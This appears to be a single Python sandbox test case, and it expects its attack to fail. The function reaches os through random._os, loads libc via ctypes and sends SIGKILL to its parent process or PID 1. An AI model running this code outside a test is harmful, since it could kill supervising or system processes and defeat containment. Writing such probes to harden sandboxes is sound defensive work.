"""Signals its parent with a message (rt_sigqueueinfo).

ending: returned
value: [-1, 1]
"""

import random
import sys


def attack():
    ctypes = sys.modules["ctypes"]
    libc = ctypes.CDLL(None, use_errno=True)
    return [libc.sigqueue(random._os.getppid() or 1, 9, None), ctypes.get_errno()]
